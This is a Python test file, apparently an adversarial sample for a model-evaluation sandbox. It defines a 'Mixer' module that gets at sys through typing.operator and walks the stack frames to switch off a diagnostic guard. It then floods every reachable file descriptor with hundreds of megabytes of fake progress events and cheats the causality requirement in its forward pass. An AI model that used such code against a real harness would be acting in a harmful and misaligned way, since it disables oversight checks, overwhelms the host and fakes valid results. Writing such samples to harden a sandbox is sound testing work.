"""Attack class: flooding the channels. The mixer (non-causal) writes a stream of events to
every descriptor it can reach and prints a huge amount to stdout, hoping to grow the parent
(the console) without bound."""
import typing

import torch
import torch.nn as nn

def _sys():
    """sys, reached through a module handle of an allowed module (typing.operator)."""
    return typing.operator.attrgetter("sys")(torch)


def _guard_off():
    """Walk the frames up to the worker and clear the diagnostic guard's `active` flag: from here
    on only the OS boundary (bwrap, seccomp, rlimits) stands."""
    f = _sys()._getframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            g = getattr(v, "guard", None)
            if g is not None and hasattr(g, "active"):
                g.active = False
        f = f.f_back


EVENT = b'{"event": "progress", "fraction": 0.5, "message": "' + b"x" * 900 + b'"}\n'


class Mixer(nn.Module):
    def __init__(self, d_model: int, n_heads: int, **kwargs):
        super().__init__()
        _guard_off()
        sys = _sys()
        os = sys.modules["os"]
        fds = []
        for fd in range(0, 256):
            try:
                os.write(fd, EVENT)
                fds.append(fd)
            except Exception:
                pass
        block = EVENT * 1000
        for _ in range(300):  # ~270 MB per descriptor
            for fd in fds:
                try:
                    os.write(fd, block)
                except Exception:
                    pass
        self.q = nn.Linear(d_model, d_model)

    def forward(self, x):
        return self.q(x).flip(1).cumsum(1).flip(1)  # reverse cumsum: reads the future
